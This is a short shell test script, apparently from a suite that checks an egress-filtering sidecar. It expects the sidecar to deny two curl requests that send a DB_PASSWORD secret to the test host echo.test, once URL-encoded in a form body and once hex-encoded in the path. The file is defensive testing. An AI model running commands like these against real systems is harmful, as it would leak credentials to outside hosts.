# S4: held secret URL-encoded in a form body and in the path
# expect: fail
# audit: sidecar=egress decision=deny host=echo.test
# upstream-must-not-see: DB_PASSWORD
enc=$(printf %s "$DB_PASSWORD" | od -An -tx1 | tr -d ' \n' | sed 's/../%&/g')
curl -sS -m 10 -f --data-urlencode "p=$DB_PASSWORD" http://echo.test/allowed/u || curl -sS -m 10 -f "http://echo.test/allowed/$enc"
